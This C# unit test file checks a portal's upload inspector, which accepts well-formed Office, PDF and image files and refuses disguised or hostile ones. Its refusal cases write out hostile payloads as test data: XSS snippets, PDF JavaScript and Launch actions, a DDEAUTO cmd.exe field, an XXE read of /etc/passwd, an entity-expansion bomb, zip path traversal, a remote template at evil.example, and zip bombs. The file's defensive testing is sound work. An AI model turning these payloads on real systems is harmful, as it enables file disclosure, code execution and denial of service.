using System.Text;
using TengchongPortal.Data.Files.Inspecting;

namespace TengchongPortal.Web.Tests.Files;

public sealed class FileInspectionTests
{
    private static readonly UploadLimits _limits = new() { MaxBytes = 4 << 20, MaxImageBytes = 1 << 20, MaxUnpackedBytes = 8 << 20, MaxZipEntries = 100 };

    public static TheoryData<string, byte[], string> Good => new()
    {
        { "预算公开表.xlsx", Packages.Xlsx().Zipped(), "预算公开表.xlsx" },
        { "通知.DOCX", Packages.Docx().Zipped(), "通知.docx" },
        { "链接.docx", Packages.Docx().With("word/_rels/document.xml.rels", Packages.Outside("hyperlink", "https://a.example/")).Zipped(), "链接.docx" },
        { "批复.pdf", Pictures.Pdf(), "批复.pdf" },
        { "现场.jpeg", Pictures.Jpeg(), "现场.jpg" },
        { "图.png", Pictures.Png(), "图.png" },
    };

    public static TheoryData<string, byte[], string> Bad => new()
    {
        { "空.pdf", [], "file.empty" },
        { "无扩展名", Pictures.Pdf(), "file.name" },
        { "木马.exe", "MZ"u8.ToArray(), "file.type" },
        { "批复.pdf.exe", Pictures.Pdf(), "file.type" },
        { "页面.html", "<script>alert(1)</script>"u8.ToArray(), "file.type" },
        { "图.svg", "<svg onload='alert(1)'/>"u8.ToArray(), "file.type" },
        { "宏.docm", Packages.Docx().Zipped(), "file.type" },
        { "图.png", Pictures.Jpeg(), "file.mismatch" },
        { "图.jpg", Pictures.Png(), "file.mismatch" },
        { "表.xlsx", Packages.Docx().Zipped(), "file.mismatch" },
        { "文.docx", Packages.Xlsx().Zipped(), "file.mismatch" },
        { "文.docx", new Dictionary<string, string> { ["a.txt"] = "只是压缩包" }.Zipped(), "file.mismatch" },
        { "文.docx", Packages.Docx().Zipped()[..^30], "file.mismatch" },
        { "文.docx", [.. Packages.Docx().Zipped(), .. "<script>"u8], "file.mismatch" },
        { "文.docx", [.. Pictures.Pdf(), .. Packages.Docx().Zipped()], "file.mismatch" },
        { "文.docx", Packages.Docx("<w:p>").Zipped(), "file.mismatch" },
        { "文.docx", Packages.Docx().With("../../etc/cron.d/x", "x").Zipped(), "file.mismatch" },
        { "文.docx", Packages.Docx().With("word\\..\\x", "x").Zipped(), "file.mismatch" },
        { "文.pdf", [.. Pictures.Pdf(), .. Packages.Docx().Zipped()], "file.mismatch" },
        { "文.pdf", "%PDF-1.7\n没有结尾"u8.ToArray(), "file.mismatch" },
        { "文.pdf", [.. "<html>"u8, .. Pictures.Pdf()], "file.mismatch" },
        { "文.pdf", Pictures.Pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "file.macro" },
        { "文.pdf", Pictures.Pdf("/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>"), "file.macro" },
        { "文.pdf", Pictures.Pdf("/OpenAction<</S/Launch/F(cmd.exe)>>"), "file.macro" },
        { "文.pdf", Pictures.Pdf("/Names<</EmbeddedFiles 3 0 R>>"), "file.macro" },
        { "文.docx", Packages.Docx().With("word/vbaProject.bin", "x").Zipped(), "file.macro" },
        { "表.xlsx", Packages.Xlsx().With("xl/embeddings/oleObject1.bin", "x").Zipped(), "file.macro" },
        { "文.docx", Packages.Docx().With("[Content_Types].xml", Packages.Types("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")).Zipped(), "file.macro" },
        { "文.docx", Packages.Docx().With("word/_rels/settings.xml.rels", Packages.Outside("attachedTemplate", "https://evil.example/x.dotm")).Zipped(), "file.external" },
        { "文.docx", Packages.Docx().With("word/_rels/document.xml.rels", Packages.Outside("image", "file://host/share/x.png")).Zipped(), "file.external" },
        { "文.docx", Packages.Docx().With("word/_rels/document.xml.rels", Packages.Outside("hyperlink", "javascript:alert(1)")).Zipped(), "file.external" },
        { "文.docx", Packages.Docx("<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>").Zipped(), "file.external" },
        { "文.docx", Packages.Docx().With("word/document.xml", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>").Zipped(), "file.external" },
        { "表.xlsx", Packages.Xlsx().With("xl/sharedStrings.xml", "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;'>]><x>&b;</x>").Zipped(), "file.external" },
        { "表.xlsx", Packages.Xlsx().With("xl/media/a.txt", new string('0', 9 << 20)).Zipped(), "file.zip-bomb" },
        { "表.xlsx", Packages.Xlsx().With("xl/media/a.txt", new string('0', 2 << 20)).Zipped(), "file.zip-bomb" },
        { "表.xlsx", Enumerable.Range(0, 101).Aggregate(Packages.Xlsx(), (parts, at) => parts.With($"xl/media/{at}.txt", "")).Zipped(), "file.zip-bomb" },
        { "大.pdf", new byte[(4 << 20) + 1], "file.size" },
        { "大.png", new byte[(1 << 20) + 1], "file.size" },
        { "大.png", Pictures.Png(16_001, 1), "file.image-size" },
        { "大.png", Pictures.Png(15_000, 15_000), "file.image-size" },
        { "大.jpg", Pictures.Jpeg(15_000, 15_000), "file.image-size" },
        { "断.png", Pictures.Png()[..^12], "file.mismatch" },
        { "断.jpg", Pictures.Jpeg()[..^2], "file.mismatch" },
        { "断.jpg", [0xff, 0xd8, 0xff, 0xd9], "file.mismatch" },
    };

    [Theory]
    [MemberData(nameof(Good), DisableDiscoveryEnumeration = true)] // megabytes make no test names
    public void A_file_that_is_what_it_says_is_taken(string name, byte[] bytes, string clean)
    {
        var inspection = new FileInspection(_limits).Inspect(new MemoryStream(bytes), name);

        Assert.Null(inspection.Refusal);
        Assert.Equal(clean, inspection.File!.CleanName);
        Assert.Equal(0, inspection.File.Content.Position);
        Assert.EndsWith(inspection.File.Extension, clean, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Bad), DisableDiscoveryEnumeration = true)] // megabytes make no test names
    public void A_file_that_is_not_or_that_acts_is_refused_with_its_rule(string name, byte[] bytes, string rule)
    {
        var inspection = new FileInspection(_limits).Inspect(new MemoryStream(bytes), name);

        Assert.Null(inspection.File);
        Assert.Equal(rule, inspection.Refusal!.Code);
        Assert.EndsWith("。", inspection.Refusal.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_kind_taken_out_of_the_list_is_refused()
    {
        var inspection = new FileInspection(_limits with { Extensions = ["pdf"] }).Inspect(new MemoryStream(Pictures.Png()), "图.png");

        Assert.Equal("file.type", inspection.Refusal!.Code);
    }

    [Fact]
    public void A_picture_loses_what_it_tells_about_its_maker_and_what_hangs_behind_it()
    {
        byte[] png = [.. Pictures.Png(1, 1, ("tEXt", "Author\0SECRET"), ("eXIf", "SECRET"), ("iTXt", "SECRET"), ("zTXt", "SECRET"), ("tIME", "SECRET"), ("xxXx", "SECRET")), .. "SECRET<script>"u8];
        byte[] jpeg = [.. Pictures.Jpeg(1, 1, Pictures.Segment(0xe1, "Exif\0\0SECRET"u8.ToArray()), Pictures.Segment(0xfe, "SECRET"u8.ToArray()), Pictures.Segment(0xed, "SECRET"u8.ToArray())), .. "SECRET<script>"u8];

        Assert.Equal(Pictures.Png(), Kept(png, "图.png"));
        Assert.Equal(Pictures.Jpeg(), Kept(jpeg, "图.jpg"));
    }

    [Fact]
    public void Spoiled_bytes_are_refused_or_taken_but_never_a_fault() // R: hostile input is 4xx
    {
        var random = new Random(20191212);
        var samples = Good.Select(row => ((string)row[0], (byte[])row[1])).ToArray();
        for (var round = 0; round < 2_000; round++)
        {
            var (name, bytes) = samples[round % samples.Length];
            var spoiled = bytes[..random.Next(bytes.Length / 2, bytes.Length + 1)];
            spoiled[random.Next(spoiled.Length)] ^= (byte)(1 << random.Next(8));

            var inspection = new FileInspection(_limits).Inspect(new MemoryStream(spoiled), name);

            Assert.NotEqual(inspection.File is null, inspection.Refusal is null);
        }
    }

    private static byte[] Kept(byte[] bytes, string name)
    {
        var content = new FileInspection(_limits).Inspect(new MemoryStream(bytes), name).File!.Content;
        using var kept = new MemoryStream();
        content.CopyTo(kept);
        Assert.DoesNotContain("SECRET", Encoding.Latin1.GetString(kept.ToArray()), StringComparison.Ordinal);
        return kept.ToArray();
    }
}
